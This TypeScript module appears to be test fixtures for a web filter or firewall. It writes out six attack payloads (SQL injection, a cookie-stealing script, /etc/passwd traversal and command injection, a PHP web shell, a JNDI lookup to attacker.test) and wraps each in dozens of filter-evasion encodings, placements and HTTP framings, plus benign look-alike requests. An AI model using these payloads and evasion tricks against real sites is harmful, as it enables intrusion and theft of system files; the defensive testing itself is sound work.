// The same attacks in other forms: what a website may undo, or read otherwise, than whoever looks at the bytes. Each is
// a whole request, byte by byte.

export const FORMS_HOST = 'www.example.test'

export type Attack = 'SQL' | 'markup' | 'path' | 'command' | 'PHP' | 'lookup'
export const ATTACKS: Record<Attack, string> = {
  SQL: "1' union select password from users -- ",
  markup: '<script>alert(document.cookie)</script>',
  path: '../../../../../etc/passwd',
  command: ';cat /etc/passwd',
  PHP: '<?php system($_GET[1]) ?>',
  lookup: '${jndi:ldap://attacker.test/a}',
}

const FORM = 'application/x-www-form-urlencoded'
const AGENT = 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0'
const encoded = encodeURIComponent
const base64 = (text: string) => Buffer.from(text).toString('base64')
const latin = (bytes: Buffer) => bytes.toString('latin1')
const wide = (text: string) => Buffer.from(text, 'utf16le')

function request(line: string, headers: string[], body = '', agent = AGENT): string {
  const all = [`Host: ${FORMS_HOST}`, `User-Agent: ${agent}`, 'Accept: */*', ...headers, 'Connection: close']
  return `${line}\r\n${all.join('\r\n')}\r\n\r\n${body}`
}
const get = (target: string, ...headers: string[]) => request(`GET ${target} HTTP/1.1`, headers)
const post = (type: string, body: string, ...headers: string[]) =>
  request('POST /form HTTP/1.1', [`Content-Type: ${type}`, `Content-Length: ${body.length}`, ...headers], body)
const inUtf8 = (text: string) => latin(Buffer.from(text))

/** IBM's EBCDIC, as far as the attacks need it. */
function ebcdic(text: string): Buffer {
  const stretches: [string, number][] = [
    ['abcdefghi', 0x81],
    ['jklmnopqr', 0x91],
    ['stuvwxyz', 0xa2],
    ['ABCDEFGHI', 0xc1],
    ['JKLMNOPQR', 0xd1],
    ['STUVWXYZ', 0xe2],
    ['0123456789', 0xf0],
    [' ', 0x40],
    ['.<(+', 0x4b],
    ['$*);', 0x5b],
    ['-/', 0x60],
    ['_>?', 0x6d],
    [':#@\'="', 0x7a],
  ]
  const codeOf = (char: string) => {
    for (const [chars, first] of stretches) if (chars.includes(char)) return first + chars.indexOf(char)
    return 0x6f
  }
  return Buffer.from([...text].map(codeOf))
}
const escapedBytes = (bytes: Buffer) => [...bytes].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('')
const utf7 = (text: string) =>
  text.replaceAll(/[^A-Za-z0-9 ]+/g, (marks) => `+${wide(marks).swap16().toString('base64').replace(/=+$/, '')}-`)
const overlong = (text: string) =>
  Buffer.from(
    [...text].flatMap((char) => {
      const code = char.charCodeAt(0)
      return /\w/.test(char) ? [code] : [0xc0 | (code >> 6), 0x80 | (code & 63)]
    }),
  )
const every = (write: (code: number) => string) => (text: string) =>
  [...text].map((char) => write(char.charCodeAt(0))).join('')
const hex = (code: number, digits: number) => code.toString(16).padStart(digits, '0')
const unicodeEscapes = every((code) => `\\u${hex(code, 4)}`)
const octalEscapes = every((code) => `\\${code.toString(8).padStart(3, '0')}`)
const references = every((code) => `&#x${code.toString(16)};`)
const fullWidth = (text: string) =>
  text.replaceAll(/[!-~]/g, (char) => String.fromCodePoint(char.charCodeAt(0) + 0xfee0))

const NAMED = 'Content-Disposition: form-data; name="q"'
const part = (head: string, value: string) => `--b\r\n${head}\r\n\r\n${value}\r\n`
const parts = (...all: string[]) => `${all.join('')}--b--\r\n`
const PARTS = 'multipart/form-data; boundary=b'
const json = (value: unknown) => JSON.stringify(value)
const chunks = (body: string) =>
  `${[...body.matchAll(/[^]{1,7}/g)].map(([chunk]) => `${chunk.length.toString(16)}\r\n${chunk}\r\n`).join('')}0\r\n\r\n`
const chunked = (coding: string, body: string) =>
  request('POST /form HTTP/1.1', [`Content-Type: ${FORM}`, `Transfer-Encoding:${coding}`], body)

type Form = (attack: string) => string
/** By what is done to them; each is stopped for all attacks but those named, which mean nothing in it. */
export const FORMS: Record<string, [name: string, write: Form, but?: Attack[]][]> = {
  'as it is': [
    ['in the query', (a) => get(`/s?q=${encoded(a)}`)],
    ['in a form', (a) => post(FORM, `q=${encoded(a)}`)],
    ['in JSON', (a) => post('application/json', json({ q: a }))],
    ['in parts', (a) => post(PARTS, parts(part(NAMED, a)))],
    ['in the name of a parameter', (a) => get(`/s?${encoded(a)}=1`)],
    ['behind a semicolon', (a) => get(`/s?a=1;q=${encoded(a)}`)],
    ['for the whole address', (a) => request(`GET http://${FORMS_HOST}/s?q=${encoded(a)} HTTP/1.1`, [])],
    ['for a file', (a) => get(`/a.jpg?q=${encoded(a)}`)],
    ['with PROPFIND', (a) => post(FORM, `q=${encoded(a)}`).replace('POST', 'PROPFIND')],
    ['in the body of GET', (a) => post('application/json', json({ q: a })).replace('POST', 'GET')],
    [
      'in the body of a WebSocket’s beginning',
      (a) => post(FORM, `q=${encoded(a)}`, 'Upgrade: websocket', 'Sec-WebSocket-Version: 13').replace('POST', 'GET'),
    ],
  ],
  'in another charset': [
    ['UTF-16 in a form', (a) => post(`${FORM}; charset=utf-16`, latin(wide(`q=${a}`)))],
    ['UTF-16 in a form, escaped', (a) => post(`${FORM}; charset=utf-16le`, `q=${escapedBytes(wide(a))}`)],
    ['UTF-16 in JSON, by its mark', (a) => post('text/plain', latin(wide(`\ufeff${json({ q: a })}`)))],
    ['UTF-16 in bytes, by its look', (a) => post('application/octet-stream', latin(wide(json({ q: a }))))],
    ['UTF-16 the other way round', (a) => post('x/y', latin(wide(json({ q: a })).swap16()))],
    ['EBCDIC', (a) => post(`${FORM}; charset=ibm037`, `${escapedBytes(ebcdic('q'))}=${escapedBytes(ebcdic(a))}`)],
    ['EBCDIC in the query', (a) => get(`/s?q=${escapedBytes(ebcdic(a))}`, `Content-Type: ${FORM}; charset="ibm500"`)],
    ['EBCDIC by a field', (a) => post(FORM, `_charset_=ibm037&q=${escapedBytes(ebcdic(a))}`)],
    [
      'EBCDIC by a field of parts',
      (a) =>
        post(
          PARTS,
          parts(part('Content-Disposition: form-data; name="_charset_"', 'ibm037'), part(NAMED, latin(ebcdic(a)))),
        ),
    ],
    ['EBCDIC by a header', (a) => post(FORM, `q=${escapedBytes(ebcdic(a))}`, 'x-up-devcap-post-charset: ibm037')],
    ['UTF-7', (a) => post(`${FORM}; charset=utf-7`, `q=${encoded(utf7(a))}`)],
    ['UTF-7 by a field', (a) => post(FORM, `_charset_=utf-7&q=${encoded(utf7(a))}`)],
    ['two charsets', (a) => post(`${FORM}; charset=utf-8; charset=ibm037`, `q=${escapedBytes(ebcdic(a))}`)],
    ['UTF-8 longer than needed', (a) => get(`/s?q=${escapedBytes(overlong(a))}`)],
    ['UTF-8 longer than needed in JSON', (a) => post('application/json', `{"q":"${latin(overlong(a))}"}`)],
    ['full-width letters', (a) => get(`/s?q=${encoded(fullWidth(a))}`)],
  ],
  'within another writing': [
    ['escaped three times', (a) => get(`/s?q=${encoded(encoded(encoded(a)))}`)],
    ['escaped twice in a form', (a) => post(FORM, `q=${encoded(encoded(a))}`)],
    ['escaped in JSON', (a) => post('application/json', `{"q":"${unicodeEscapes(a)}"}`)],
    ['JSON in the query', (a) => get(`/s?q=${encoded(json({ x: a }))}`)],
    ['escaped JSON in the query', (a) => get(`/s?q=${encoded(`{"x":"${unicodeEscapes(a)}"}`)}`)],
    ['escaped JSON in JSON', (a) => post('application/json', json({ q: `{"x":"${unicodeEscapes(a)}"}` }))],
    ['escaped in GraphQL', (a) => post('application/json', json({ query: `{u(n:"${unicodeEscapes(a)}"){id}}` }))],
    ['escaped JSON in parts', (a) => post(PARTS, parts(part(NAMED, `{"x":"${unicodeEscapes(a)}"}`)))],
    ['base64', (a) => get(`/s?q=${encoded(base64(a))}`)],
    ['base64 without marks', (a) => get(`/s?q=${Buffer.from(a).toString('base64url')}`)],
    ['base64 in JSON', (a) => post('application/json', json({ q: base64(a) }))],
    ['base64 twice', (a) => post('application/json', json({ q: base64(base64(a)) }))],
    ['character references in XML', (a) => post('text/xml', `<a>${references(a)}</a>`)],
    ['CDATA in XML', (a) => post('text/xml', `<a><![CDATA[${a.slice(0, 8)}]]><![CDATA[${a.slice(8)}]]></a>`)],
    ['an attribute of XML', (a) => post('text/xml', `<a b="${references(a)}"/>`)],
  ],
  'in another place': [
    ['a part of the path', (a) => get(`/a/${encoded(a)}`)],
    ['a parameter of the path', (a) => get(`/a;q=${encoded(a)}/b`)],
    ['a part of the path, escaped twice', (a) => get(`/a/${encoded(encoded(a))}`)],
    ['X-Forwarded-For', (a) => get('/s', `X-Forwarded-For: ${a}`)],
    ['X-Forwarded-Host', (a) => get('/s', `X-Forwarded-Host: ${a}`)],
    ['a header of nobody', (a) => get('/s', `X-Api-Version: ${a}`)],
    ['a header in base64', (a) => get('/s', `X-Token: ${base64(a)}`)],
    ['User-Agent', (a) => request('GET /s HTTP/1.1', [], '', a), ['command']],
    ['Referer', (a) => get('/s', `Referer: ${a}`), ['path', 'command']],
    ['Accept-Language', (a) => get('/s', `Accept-Language: ${a}`), ['command']],
    ['Authorization', (a) => get('/s', `Authorization: ${a}`), ['command']],
    ['a user’s name', (a) => get('/s', `Authorization: Basic ${base64(`${a}:x`)}`), ['lookup']],
    ['a cookie', (a) => get('/s', `Cookie: q=${encoded(a)}`)],
    ['a cookie’s name', (a) => get('/s', `Cookie: ${encoded(a)}=1`)],
    ['a cookie, escaped twice', (a) => get('/s', `Cookie: q=${encoded(encoded(a))}`)],
    ['a cookie in octal digits', (a) => get('/s', `Cookie: q="${octalEscapes(a)}"`)],
    ['a cookie in base64', (a) => get('/s', `Cookie: q=${base64(a)}`)],
    ['the second line of cookies', (a) => get('/s', 'Cookie: a=1', `Cookie: q=${encoded(a)}`)],
    ['a cookie behind a header that ends with blanks', (a) => get('/s', 'X-A: 1  ', `Cookie: q=${encoded(a)}`)],
    ['a file’s name', (a) => post(PARTS, parts(part(`${NAMED}; filename="${a}"`, 'x')))],
    ['a file’s wide name', (a) => post(PARTS, parts(part(`${NAMED}; filename*=UTF-8''${encoded(a)}`, 'x')))],
    ['a part’s name', (a) => post(PARTS, parts(part(`Content-Disposition: form-data; name="${a}"`, 'x')))],
  ],
  'by another type': [
    ['JSON as a form', (a) => post(FORM, `{"q":"${unicodeEscapes(a)}"}`)],
    ['a form as JSON', (a) => post('application/json', `q=${encoded(a)}`)],
    ['JSON behind a comment', (a) => post('text/plain', `/* x */ ${json({ q: a })}`)],
    ['JSON behind a guard', (a) => post('text/plain', `)]}',\n${json({ q: a })}`)],
    ['JSON with a comma too many', (a) => post('text/plain', `${json({ q: a }).slice(0, -1)},}`)],
    ['JSON with words behind', (a) => post('text/plain', `${json({ q: a })} and so on`)],
    ['a name twice', (a) => post('application/json', `{"q":${json(a)},"q":"x"}`)],
    ['a form in lines', (a) => post('text/plain', `a=1\r\nq=${a}\r\n`)],
    ['mixed parts', (a) => post('multipart/mixed; boundary=b', parts(part(NAMED, a)))],
    ['parts of no kind', (a) => post('multipart/x; boundary="b"', parts(part(NAMED, a)))],
    ['two types', (a) => post(`text/plain\r\nContent-Type: ${FORM}`, `q=${encoded(a)}`)],
  ],
  'in parts that readers differ about': [
    ['a part that is a file and is not', (a) => post(PARTS, parts(part(`${NAMED}; filename="a.txt"\r\n${NAMED}`, a)))],
    ['a part with no name', (a) => post(PARTS, parts(part('Content-Disposition: form-data', a)))],
    [
      'a part in another coding',
      (a) => post(PARTS, parts(part(`${NAMED}\r\nContent-Transfer-Encoding: base64`, base64(a)))),
    ],
    ['blanks behind the boundary', (a) => post(PARTS, parts(part(NAMED, a)).replace('--b\r\n', '--b \t\r\n'))],
    ['a second boundary', (a) => post('multipart/form-data; boundary=x; Boundary=b', parts(part(NAMED, a)))],
    ['a boundary in continuations', (a) => post('multipart/form-data; boundary*0=b', parts(part(NAMED, a)))],
    ['a part behind the end', (a) => post(PARTS, parts(part(NAMED, 'x')) + parts(part(NAMED, a)))],
    ['returns alone', (a) => post(PARTS, parts(part(NAMED, a)).replaceAll('\r\n', '\r'))],
  ],
  'in another framing': [
    ['chunks', (a) => chunked(' chunked', chunks(`q=${encoded(a)}`))],
    [
      'chunks with extensions',
      (a) => chunked(' chunked', chunks(`q=${encoded(a)}`).replace('7\r\n', `7;x="${a}"\r\n`)),
    ],
    ['chunks with line feeds', (a) => chunked(' chunked', chunks(`q=${encoded(a)}`).replaceAll('\r\n', '\n'))],
    ['chunked behind a tab', (a) => chunked('\tChUnKeD', chunks(`q=${encoded(a)}`))],
    ['chunked twice', (a) => chunked(' chunked, chunked', chunks(`q=${encoded(a)}`))],
    ['chunked in quotes', (a) => chunked(' "chunked"', chunks(`q=${encoded(a)}`))],
    [
      'a body behind a header that ends with blanks',
      (a) => post(`${FORM}`, `q=${encoded(a)}`).replace('Accept: */*', 'Accept: */* '),
    ],
    ['a head with line feeds', (a) => post(FORM, `q=${encoded(a)}`).replaceAll('\r\n', '\n')],
  ],
}

/** Where one attack alone can be written so. */
export const SINGLE_FORMS: [name: string, request: string][] = [
  [
    'SQL in two parameters of one name',
    get(`/s?q=${encoded("1' union/*")}&q=${encoded('*/select password from users -- ')}`),
  ],
  ['SQL in the path, with comments for blanks', get("/item/1'/**/union/**/select/**/password/**/from/**/users--")],
]

/** What looks like one of them to whoever is not careful. */
export const LOOK_ALIKES: [name: string, request: string][] = [
  ...["/wiki/Bob's_burgers", '/wiki/Select_(SQL)', '/a;jsessionid=ABC123;v=2/b', '/files/My%20document%20(1).pdf'].map(
    (path): [string, string] => [path, get(path)],
  ),
  ...[
    '/search/rock%20%26%20roll',
    '/users/*/posts',
    '/tag/90%27s%20music',
    `/${escapedBytes(Buffer.from('東京（Ａ）'))}`,
  ].map((path): [string, string] => [path, get(path)]),
  ...[
    'X-Forwarded-For: 203.0.113.9, 10.0.0.1',
    'Forwarded: for="[2001:db8:cafe::17]:4711";proto=https;by=203.0.113.43',
    'X-Device: {"os":"iOS","v":"17.4"}',
    "X-Name: O'Brien",
    'X-Title: Tom & Jerry; the film (1992)',
    'Sec-CH-UA: "Chromium";v="118", "Not=A?Brand";v="99"',
    'If-None-Match: W/"abc-1", "def"',
    'Authorization: Digest username="Mufasa", realm="a@b", nonce="dcd98b", uri="/dir", response="6629"',
    `Authorization: Basic ${base64('bob@example.test:p\'--or 1=1"<x>')}`,
    'Referer: https://www.example.test/search?q=select+the+best+from+table',
    'Content-Disposition: attachment; filename="a b.txt"',
    'Cookie: s=eyJ1c2VyIjoiYm9iIiwicm9sZXMiOlsiYSIsImIiXX0=; t="x y"; _ga=GA1.2.3.4',
  ].map((header): [string, string] => [header, get('/s', header)]),
  ['a form in GBK', post(`${FORM}; charset=gbk`, 'q=%C0%BC%C1%D6')],
  ['a form that names its charset', post(FORM, '_charset_=UTF-8&q=hello')],
  ['full-width letters', post('application/json; charset=utf-8', inUtf8('{"q":"東京（ＡＢＣ）＝１；"}'))],
  [
    'identifiers in base64',
    post('application/json', json(Array.from({ length: 150 }, (_, i) => base64(`gid://shop/Item/${i}`)))),
  ],
  ['a state in base64', get(`/cb?state=${encoded(base64(json({ next: 'https://x.test/a?b=c', name: "it's" })))}`)],
  [
    'an assertion in base64',
    post(
      FORM,
      `SAMLResponse=${encoded(base64('<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_1"/>'))}`,
    ),
  ],
  ['a mail in base64', post('application/json', json({ body: base64('<p>Tom &amp; Jerry, <b>bold</b></p>') }))],
  ['a link in a link', get(`/login?next=${encoded(encoded('https://x.test/s?q=rock & roll'))}`)],
  ['a path of Windows', post('application/json', json({ path: 'C:\\users\\new\\x86\\u1234' }))],
  ['names of one kind', get("/s?n=O'Brien&n=D'Arcy&tag=a(b)&tag=c")],
  ['a note', post('text/plain', `A note about SQL: 1' or 1=1 -- is what they try`)],
  ['a log', post('text/plain', '{"a":1}\n{"b":2}\nend of the log')],
  ['settings', post('text/plain', "{ // comment\n 'name': 'value', \"list\": [1,2,], }")],
  [
    'XML with attributes',
    post(
      'text/xml',
      '<o xmlns:x="http://www.w3.org/2001/XMLSchema-instance" x:schemaLocation="http://a.test b.xsd" note="Tom &amp; Jerry\'s"/>',
    ),
  ],
  [
    'an upload in related parts',
    post(
      'multipart/related; boundary=b',
      parts(part('Content-Type: application/json', '{"name":"a"}'), part('Content-Type: image/png', 'x')),
    ),
  ],
  [
    'a photograph',
    post(PARTS, parts(part(`Content-Disposition: form-data; name="f"; filename="Bob's photo (1) & more.jpg"`, 'x'))),
  ],
]
